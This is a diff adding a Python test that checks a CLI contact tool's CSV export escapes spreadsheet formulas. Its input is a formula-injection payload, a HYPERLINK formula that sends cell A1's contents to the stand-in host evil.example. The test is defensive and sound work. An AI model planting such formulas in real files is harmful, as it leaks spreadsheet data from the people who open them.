@@ -85,3 +85,17 @@ def test_export_escapes_formulas_but_keeps_negative_numbers(cli_db, tmp_path):
                 assert value[:1] not in ("=", "+", "@", "\t", "\r"), (table, value)
                 if value.startswith("-"):
                     float(value)  # only numbers may start with a minus
+
+
+def test_gdpr_contact_export_as_csv_escapes_formulas(console):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    console.say(f"contact add {hostile} email=eve@evil.example title=@boss")
+    console.say("log note #c1: -1+2 said hi")
+    out = console.say("contact export #c1 format=csv")
+    body = out[out.index("part,item,field,value") :]
+    rows = list(csv.reader(io.StringIO(body)))
+    values = [r[3] for r in rows[1:] if len(r) == 4]
+    assert "'" + hostile in values and "'@boss" in values and "'-1+2 said hi" in values
+    assert not any(v[:1] in ("=", "+", "@") for v in values)
+    # the JSON export keeps the data as held (portability), for no spreadsheet reads it
+    assert hostile.replace('"', '\\"') in console.say("contact export #c1")
